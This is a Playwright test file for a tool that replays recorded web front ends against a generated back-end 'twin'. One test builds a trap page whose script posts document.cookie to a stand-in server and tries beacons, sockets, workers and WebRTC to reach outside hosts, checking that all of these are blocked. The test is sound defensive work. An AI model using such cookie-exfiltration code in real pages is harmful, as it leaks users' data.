import { execFile, spawn } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { expect, test } from '@playwright/test'
import type { Proof } from '../../src/specification/proof.ts'

const run = promisify(execFile)
const at = (path: string): string => fileURLToPath(new URL(`../../${path}`, import.meta.url))
const command = [at('bin/asbuilt.js')]
const roles = ['member', 'librarian', 'admin']
const learnt = roles.map(role => ['--as', `${role}=${at(`examples/tool-library/${role}.har.gz`)}`])
const held = (role: string) => ['--as', `${role}=${at(`tests/held-out/${role}-trace.zip`)}`]

let folder: string
/** What the recordings of the sample say, as JSON. */
let sample: string
test.beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'asbuilt-front-end-'))
  sample = await write('sample.json', learnt.flat())
})
test.afterAll(() => rm(folder, { recursive: true, force: true }))

/** What `prove` says as JSON; below its bar it ends with 1, and says it all the same. */
async function proved(args: readonly string[]): Promise<Proof> {
  const { stdout } = await run(process.execPath, [...command, 'prove', ...args, '--front-end', '--json', '-q'], {
    maxBuffer: 1 << 28,
  }).catch((error: { code: number; stdout: string; stderr: string }) => {
    if (error.code !== 1) throw new Error(error.stderr)
    return error
  })
  return (JSON.parse(stdout) as { proof: Proof }).proof
}

async function write(file: string, args: readonly string[]): Promise<string> {
  const path = join(folder, file)
  await run(process.execPath, [...command, 'write', '-q', ...args, '-o', path])
  return path
}

test('the original front end of the sample runs on a twin of its specification', async () => {
  const { screens, frontEnd } = await proved([sample, ...roles.map(held).flat(), ...learnt.flat()])
  if (frontEnd === undefined) throw new Error('The front end was not run.')
  expect(frontEnd.failures.filter(({ problem }) => problem === '')).toEqual([])
  expect(frontEnd.journeys).toBe(3)
  expect(frontEnd.arrivals).toBeGreaterThan(35)
  expect(screens).toBeGreaterThanOrEqual(0.9)
  expect(frontEnd.turnedAway).toEqual([])
})

test('the front end misses what a twin cannot say, and says what is to blame', async () => {
  const whole = JSON.parse(await readFile(sample, 'utf8')) as {
    sections: { calls: { claims: { id: string }[] } }
  }
  whole.sections.calls.claims = whole.sections.calls.claims.filter(({ id }) => id !== 'calls/GET /api/members')
  const without = join(folder, 'without.json')
  await writeFile(without, JSON.stringify(whole))
  const { screens, frontEnd } = await proved([without, ...held('admin'), ...learnt.flat()])
  expect(screens).toBeLessThan(1)
  const failure = frontEnd?.failures.find(({ expected }) => expected === '/members')
  expect(failure?.words).toBe('click "Members"')
  expect(failure?.refused.map(({ request }) => request)).toContain('GET /api/members')
})

test('a recorded page reaches nothing but the twin', async () => {
  // What stands for the rest of the world: it hears whoever asks.
  const asked: string[] = []
  const world = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  })
  await new Promise<void>(resolve => world.listen(0, '127.0.0.1', resolve))
  const { port } = world.address() as AddressInfo
  const out = `http://127.0.0.1:${port}`
  const packets = createSocket('udp4').on('message', () => asked.push('a packet'))
  packets.bind(port, '127.0.0.1')
  const page = `<!doctype html><title>Traps</title><link rel=stylesheet href=${out}/style.css><link rel=preconnect href=${out}>
<link rel=dns-prefetch href=//example.test><script src=${out}/script.js></script><img src=${out}/picture.png>
<iframe src=${out}/frame.html></iframe><script>
fetch('http://example.test/secret').catch(() => {})
fetch('${out}/fetch', { method: 'POST', body: document.cookie, mode: 'no-cors', keepalive: true }).catch(() => {})
navigator.sendBeacon('${out}/beacon', 'x')
new WebSocket('${out.replace('http', 'ws')}/socket')
new EventSource('${out}/events')
new Worker(URL.createObjectURL(new Blob(["fetch('${out}/worker').catch(() => {})"])))
try { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${port}' }] })
peer.createDataChannel('a'); peer.createOffer().then(offer => peer.setLocalDescription(offer)) } catch {}
fetch('/api/ping')
document.title = 'Drawn'
</script><div id=root></div>`
  const entry = (path: string, type: string, text: string, second: number) => ({
    startedDateTime: `2026-01-02T03:04:0${second}.000Z`,
    time: 1,
    request: {
      method: 'GET',
      url: `http://shop.test${path}`,
      headers: [{ name: 'referer', value: 'http://shop.test/' }],
      queryString: [],
      cookies: [],
    },
    response: { status: 200, headers: [], cookies: [], content: { mimeType: type, text } },
    _resourceType: type === 'text/html' ? 'document' : 'fetch',
  })
  const har = async (file: string, second: number): Promise<string> => {
    const path = join(folder, file)
    const entries = [
      entry('/', 'text/html', page, second),
      entry('/api/ping', 'application/json', `{"pong":${second}}`, second + 1),
    ]
    await writeFile(path, JSON.stringify({ log: { version: '1.2', creator: { name: 'a', version: '1' }, entries } }))
    return path
  }
  const first = await har('first.har', 1)
  const specification = await write('traps.json', [first])
  const { frontEnd } = await proved([specification, await har('second.har', 3), first])
  world.close()
  packets.close()
  expect(asked).toEqual([])
  expect(frontEnd?.arrivals).toBe(1)
  const away = new Map(frontEnd?.turnedAway.map(({ origin, requests }) => [origin, requests]))
  expect(away.get('http://example.test')).toBe(1)
  expect(away.get(out)).toBeGreaterThan(4)
})

test('no browser is left running where it is interrupted', async () => {
  const child = spawn(
    process.execPath,
    [...command, 'prove', sample, ...held('member'), ...learnt.flat(), '--front-end'],
    { stdio: ['ignore', 'ignore', 'pipe'] },
  )
  const browsers = async (): Promise<readonly string[]> => {
    const { stdout } = await run('ps', ['-o', 'pid=,args=', '--ppid', String(child.pid)])
    return stdout.split('\n').filter(line => line.includes('--remote-debugging'))
  }
  let running: readonly string[] = []
  await expect(async () => {
    running = await browsers().catch(() => [])
    expect(running.length).toBeGreaterThan(0)
  }).toPass()
  const ended = once(child, 'exit')
  child.kill('SIGINT')
  expect((await ended)[0]).toBe(130)
  const pids = running.map(line => Number(line.trim().split(' ', 1)[0]))
  await expect(() => {
    for (const pid of pids) expect(() => process.kill(pid, 0)).toThrow(/ESRCH/)
  }).toPass()
})

test('a twin is served with the front end at one address', async ({ page }) => {
  const twin = spawn(
    process.execPath,
    [...command, 'twin', sample, '-q', '--as', 'member', '--front-end', at('examples/tool-library/member.har.gz')],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  )
  try {
    const [first] = (await once(twin.stdout, 'data')) as [Buffer]
    const address = first.toString().trim()
    const others: string[] = []
    page.on('request', sent => {
      if (!sent.url().startsWith(address) && !sent.url().startsWith('data:')) others.push(sent.url())
    })
    await page.goto(`${address}/login`)
    await page.getByLabel('E-mail').fill('ann@example.org')
    await page.getByLabel('Password').fill('a long password')
    await page.getByRole('button', { name: 'Sign in' }).click()
    await expect(page).toHaveURL(`${address}/tools`)
    await page.locator('main a[href^="/tools/"]').first().click()
    await expect(page.getByRole('button', { name: 'Ask for this tool' })).toBeVisible()
    expect(others).toEqual([])
  } finally {
    const ended = once(twin, 'exit')
    twin.kill('SIGINT')
    await ended
  }
})
